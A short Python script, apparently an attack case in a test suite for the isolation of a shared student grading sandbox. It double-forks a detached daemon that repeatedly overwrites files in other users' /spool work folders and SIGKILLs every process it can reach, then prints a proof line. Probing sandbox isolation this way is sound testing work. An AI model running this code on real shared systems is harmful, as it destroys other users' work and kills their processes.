"""Leaves a daemon behind that tampers with the next students' work and kills their processes.

victim: next
proof: ATTACK lingering-daemon: ran
"""

import glob
import os
import signal
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(600):
            for path in glob.glob("/spool/*/work/*.ipynb") + glob.glob("/spool/*/work/*"):
                try:
                    with open(path, "w") as handle:
                        handle.write("{}")
                except OSError:
                    pass
            for entry in os.listdir("/proc"):
                if entry.isdigit() and int(entry) != os.getpid():
                    try:
                        os.kill(int(entry), signal.SIGKILL)
                    except OSError:
                        pass
            time.sleep(0.05)
    os._exit(0)
print("ATTACK lingering-daemon: ran", flush=True)
